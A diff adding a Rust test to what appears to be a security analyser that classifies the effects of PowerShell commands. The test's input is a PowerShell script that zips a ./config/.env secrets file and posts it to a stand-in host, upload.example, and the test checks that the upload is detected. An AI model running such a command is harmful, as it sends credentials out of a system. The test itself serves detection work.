@@ -90,3 +90,18 @@ fn set_s3bucketacl_is_set_s3acl() {
     let private = kinds(&pwsh("Set-S3BucketACL -BucketName backups -ACL private"));
     assert!(!private.contains(&"make_public".to_owned()), "{private:?}");
 }
+
+#[test]
+fn a_form_item_from_a_variable_is_the_file_it_names() {
+    let command = pwsh(
+        "$zip = '/tmp/d.zip'\nCompress-Archive -Path ./config/.env -DestinationPath $zip -Force\nInvoke-RestMethod -Uri 'https://upload.example/' -Method Post -Form @{ file = Get-Item $zip }",
+    );
+    let request = effects(&command)
+        .into_iter()
+        .find(|e| e["effect"] == "request")
+        .unwrap_or_default();
+    assert_eq!(
+        request["payload"]["files"][0]["path"], "/tmp/d.zip",
+        "{request}"
+    );
+}
